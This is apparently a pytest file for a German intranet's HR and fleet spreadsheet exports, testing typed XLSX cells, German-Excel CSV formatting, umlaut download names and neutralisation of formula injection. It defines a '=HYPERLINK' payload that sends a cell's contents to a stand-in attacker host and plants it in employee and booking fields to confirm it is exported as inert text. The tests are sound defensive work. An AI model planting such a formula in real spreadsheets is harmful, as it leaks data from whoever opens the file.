"""What HR's and the fleet manager's spreadsheets hold: typed XLSX cells, one CSV dialect for German Excel,
no formula from user text, download names with umlauts (issue 16, part 3)."""

from __future__ import annotations

import io
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from intranet.core.cells import MEMORY, Hours, csv_field, csv_fields
from intranet.core.downloads import attachment
from timekeeping.leave.models import LeaveType
from timekeeping.leave.services import entitlement_grant, leave_request_create
from timekeeping.worktime.services import time_entry_create

BERLIN = ZoneInfo("Europe/Berlin")
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Klick")'


def midnight(day: int) -> datetime:
    """How openpyxl reads back a date cell of November 2026."""
    return datetime.combine(date(2026, 11, day), time())


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def sheet_of(response):
    return load_workbook(io.BytesIO(body(response))).active


def test_only_text_is_neutralised_and_numbers_keep_their_sign() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_field(f"{start}1+1") == f"'{start}1+1"
    assert csv_field("Yılmaz") == "Yılmaz"
    assert csv_field(Hours(timedelta(hours=-1, minutes=-30))) == "-1,50"  # a number, not text to neutralise
    assert csv_field(Hours(timedelta(hours=-1, minutes=-30)), comma=False) == "-1.50"
    assert csv_field(Hours(timedelta(seconds=-10))) == "0,00"  # not "-0,00"
    assert csv_field(-3) == "-3"
    assert csv_field(Decimal("5.0")) == "5,0"
    assert csv_field(date(2026, 11, 2)) == "02.11.2026"
    assert csv_field(datetime(2026, 7, 1, 7, 30, tzinfo=ZoneInfo("UTC"))) == "01.07.2026 09:30"  # Berlin time


@pytest.mark.parametrize("comma", [True, False])
def test_a_download_writes_what_csv_field_writes_also_what_it_remembers(comma: bool) -> None:
    values = [None, "", "=1+1", "Yılmaz", True, 0, -3, 1.5, Decimal("5.0"), date(2026, 11, 2),
              datetime(2026, 7, 1, 7, 30, tzinfo=ZoneInfo("UTC")), Hours(timedelta(seconds=-10)),
              Hours(timedelta(hours=-1, minutes=-30)), Hours(timedelta(hours=7, minutes=48))]
    # More hours and dates than it remembers, each twice: the second time (or after it forgot) from memory.
    values += [Hours(timedelta(minutes=m)) for m in range(MEMORY + 10)] + [
        date(2026, 1, 1) + timedelta(days=n) for n in range(MEMORY + 10)] + [f"-{n}" for n in range(MEMORY + 10)]
    fields = csv_fields(comma=comma)
    expected = [csv_field(value, comma=comma) for value in values]
    assert fields(values) == expected
    assert fields(values) == expected


@pytest.fixture
def absent(cast):
    cast.ada.last_name, cast.ada.personnel_number = "Yılmaz", "00417"
    cast.ada.save()
    cast.ben.first_name = EVIL
    cast.ben.save()
    for person in (cast.ada, cast.ben):
        entitlement_grant(person=person, year=2026)
    sick = LeaveType.objects.get(code="krankheit")
    leave_request_create(by=cast.ada, leave_type=sick, start=date(2026, 11, 2), end=date(2026, 11, 6),
                         today=date(2026, 11, 2))
    leave_request_create(by=cast.ben, leave_type=sick, start=date(2026, 11, 2), end=date(2026, 11, 2),
                         today=date(2026, 11, 2))
    return cast


def test_absence_xlsx_has_number_date_and_text_cells(client, absent) -> None:
    client.force_login(absent.hanna)
    response = client.get("/abwesenheiten/verwaltung/export/", {"from": "2026-11-01", "to": "2026-11-30",
                                                                "format": "xlsx"})
    sheet = sheet_of(response)
    rows = list(sheet.iter_rows())
    header, ada = rows[0], next(r for r in rows if r[1].value and "Yılmaz" in r[1].value)
    assert all(c.font.bold for c in header) and sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:H{len(rows)}"
    assert sheet.column_dimensions["B"].width >= len("Ada Yılmaz")
    assert ada[0].value == "00417" and ada[0].data_type == "s"  # an identifier: text, leading zeros kept
    assert ada[4].value == midnight(2) and ada[4].is_date and ada[4].number_format == "DD.MM.YYYY"
    assert ada[6].value == 5 and ada[6].data_type == "n" and ada[6].number_format == "0.0"
    assert ada[7].is_date  # the sick note is due
    ben = next(r for r in rows if r[1].value and r[1].value.startswith("=HYPERLINK"))
    assert ben[1].data_type == "s"  # a string, never a formula


def test_absence_and_sick_day_csv_for_german_excel(client, absent) -> None:
    client.force_login(absent.hanna)
    for params in ({}, {"format": "sick"}):
        response = client.get("/abwesenheiten/verwaltung/export/", {"from": "2026-11-01", "to": "2026-11-30",
                                                                    **params})
        text = body(response).decode("utf-8")
        assert text.startswith("\ufeffPersonalnummer;") and "Yılmaz" in text
        assert "'=HYPERLINK" in text and ";=HYPERLINK" not in text
    absences = body(client.get("/abwesenheiten/verwaltung/export/", {"from": "2026-11-01", "to": "2026-11-30"}))
    assert ";02.11.2026;06.11.2026;5,0;" in absences.decode("utf-8-sig")


def test_working_time_xlsx_has_decimal_hours_and_follows_the_payroll_layout(client, cast, settings) -> None:
    start = datetime(2026, 11, 2, 8, 0, tzinfo=BERLIN)
    time_entry_create(by=cast.ada, start=start, end=start + timedelta(hours=8, minutes=30),
                      now=datetime(2026, 11, 30, 20, 0, tzinfo=BERLIN))
    settings.TIME_EXPORT_COLUMNS = ["date:Tag", "worked:Stunden", "balance", "name"]
    client.force_login(cast.hanna)
    sheet = sheet_of(client.get("/arbeitszeit/export/", {"month": "2026-11", "unit": cast.sg_a.pk,
                                                         "format": "xlsx"}))
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == ["Tag", "Stunden", "Saldo", "Name"]
    monday = next(r for r in rows if r[0] == midnight(2) and r[3] == "Ada Arendt")
    assert monday[1] == Decimal("8.5") or monday[1] == 8.5
    tuesday = next(r for r in rows if r[0] == midnight(3) and r[3] == "Ada Arendt")
    assert tuesday[2] < 0  # a shortfall is a negative number
    summary = next(r for r in rows if r[0] == "Summe" and r[3] == "Ada Arendt")
    assert isinstance(summary[1], float | int)


def test_training_and_logbook_csv_neutralise_formulas(client, cast) -> None:
    from reservations.services import Request, booking_create
    from tests.factories import make_licence_check, make_resource
    from timekeeping.travel.models import Training

    Training.objects.create(person=cast.ada, course="=1+1", provider="@VHS", start=date(2026, 11, 2),
                            end=date(2026, 11, 2), place="Darmstadt", fee=Decimal("180.50"),
                            travel_costs=Decimal("0"))
    client.force_login(cast.hanna)
    text = body(client.get("/dienstreisen/fortbildungen/uebersicht/", {"year": 2026, "format": "csv"})).decode()
    assert text.startswith("\ufeff") and ";'=1+1;'@VHS;02.11.2026;02.11.2026;Darmstadt;180,50;0,00;" in text
    from django.utils import timezone

    car = make_resource("car", name="E-Golf", day_starts="00:00", day_ends="23:59")
    make_licence_check(cast.ada, timezone.localdate() - timedelta(days=10), cast.fred)
    begin = timezone.now() - timedelta(minutes=20)
    booking = booking_create(by=cast.ada, wanted=Request(resource=car, start=begin, end=begin + timedelta(hours=1),
                                                         title="Fahrt", destination=EVIL, purpose="-Termin"))
    client.force_login(cast.ada)
    client.post(f"/buchen/{booking.pk}/fahrtenbuch/", {"odometer_start": 500, "odometer_end": 640})
    client.force_login(cast.fred)
    month = timezone.localtime(begin).strftime("%Y-%m")
    text = body(client.get("/buchen/verwaltung/fahrtenbuch/", {"month": month, "format": "csv"})).decode()
    assert "'=HYPERLINK" in text and ";'-Termin;500;640;140;0;;" in text


def test_download_names_with_umlauts_have_an_ascii_fallback(client, cast) -> None:
    assert attachment("a.csv") == 'attachment; filename="a.csv"'
    assert attachment("SG 10.1 Bürgerbüro.vcf") == (
        "attachment; filename=\"SG 10.1 Buergerbuero.vcf\"; filename*=UTF-8''SG%2010.1%20B%C3%BCrgerb%C3%BCro.vcf")
    cast.sg_a.code = "SG 10.1 Bürgerbüro"
    cast.sg_a.save()
    client.force_login(cast.ada)
    response = client.get(f"/telefonbuch/einheiten/{cast.sg_a.pk}/vcard/")
    assert response["Content-Disposition"] == attachment("SG 10.1 Bürgerbüro.vcf")
    assert response["Content-Disposition"].isascii()  # no raw Latin-1 name


def test_the_export_and_the_council_report_offer_the_last_closed_month(client, cast, time_machine) -> None:
    """HR opens them from the navigation in the first days of a month: the month just ended is chosen."""
    from timekeeping.worktime.timesheet import last_closed_month

    assert last_closed_month(date(2027, 1, 1)) == date(2026, 12, 1)
    assert last_closed_month(date(2026, 3, 31)) == date(2026, 2, 1)
    time_machine.move_to(datetime(2026, 12, 1, 9, 0, tzinfo=BERLIN))
    client.force_login(cast.hanna)
    assert 'name="month" required value="2026-11"' in client.get("/arbeitszeit/export/").content.decode()
    report = client.get("/arbeitszeit/personalrat/").content.decode()
    assert 'name="month" required value="2026-11"' in report
    assert 'value="2026-09"' in client.get("/arbeitszeit/personalrat/", {"month": "2026-09"}).content.decode()
